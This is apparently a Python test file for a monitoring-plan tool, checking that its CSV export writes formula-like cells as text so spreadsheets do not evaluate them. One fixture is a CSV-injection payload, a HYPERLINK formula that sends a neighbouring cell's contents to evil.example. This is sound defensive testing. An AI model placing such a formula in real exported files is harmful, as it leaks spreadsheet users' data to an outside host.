"""CSV injection: `monplan list --format csv` is for spreadsheets, and a spreadsheet evaluates a
cell that starts with `=`, `+`, `-` or `@` as a formula when the file is opened. Plan text in
a cell (a metric, a section, a service) is shown as written, never evaluated: proven with
Gnumeric's own CSV importer (`ssconvert`, Debian's gnumeric), recalculating every cell.
"""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

from monplan.formats.spreadsheet import cell, to_csv
from tests.conftest import ROOT, require_tool, run_monplan

# Metric names a spreadsheet reads as formulas (=1+1 is 2, =HYPERLINK(...) a link sending a
# neighbouring cell away), each with its own alert name.
FORMULAS = {"FormulaEquals": "=1+1", "FormulaPlus": "+1+1", "FormulaMinus": "-1+3", "FormulaAt": "@SUM(1,2)",
            "FormulaLink": '=HYPERLINK("http://evil.example/?"&A1,"Response Time")'}
ROWS = ["API Response Time", "Database Query Time", "Page Load Time", "Memory Usage", "CPU Usage"]


def _plan(tmp_path: Path) -> Path:
    text = (ROOT / "plan.yaml").read_text(encoding="utf-8")
    for (alert, metric), row in zip(FORMULAS.items(), ROWS, strict=True):
        quoted = "'" + metric.replace("'", "''") + "'"
        assert text.count(f"      - metric: {row}\n") == 1
        text = text.replace(f"      - metric: {row}\n", f"      - metric: {quoted}\n        alert: {alert}\n")
    plan = tmp_path / "plan.yaml"
    plan.write_text(text, encoding="utf-8")
    return plan


def test_formula_cells_are_written_as_text() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert cell(text) == "'" + text
    for text in ("<99.9%", "API Response Time", "https://example.com/a=b", "", " =1"):
        assert cell(text) == text
    assert cell(42) == 42  # numbers stay numbers
    assert to_csv([{"a": "=1+1", "b": 3}], ["a", "b"]) == "a,b\n'=1+1,3\n"


def test_a_spreadsheet_shows_the_plans_text_and_evaluates_nothing(tmp_path: Path) -> None:
    ssconvert = require_tool("ssconvert")
    plan = _plan(tmp_path)
    listed = tmp_path / "alerts.csv"
    result = run_monplan("list", "--plan", str(plan), "--format", "csv", "--out", str(listed))
    assert result.returncode == 0, result.stderr
    # Gnumeric opens the CSV as a user would, recalculates every formula and saves what it shows.
    shown = tmp_path / "shown.csv"
    converted = subprocess.run([ssconvert, "--recalc", "-T", "Gnumeric_stf:stf_csv", str(listed), str(shown)],
                               capture_output=True, text=True, timeout=120, check=False)
    assert converted.returncode == 0, converted.stderr
    rows = list(csv.DictReader(io.StringIO(shown.read_text(encoding="utf-8"))))
    written = list(csv.DictReader(io.StringIO(listed.read_text(encoding="utf-8"))))
    assert len(rows) == len(written) and list(rows[0]) == list(written[0])
    metrics = {row["alert"]: row["metric"] for row in rows}
    for alert, metric in FORMULAS.items():
        assert metrics[alert] == metric, (alert, metrics[alert])
        assert metrics[f"{alert}NoData"] == metric
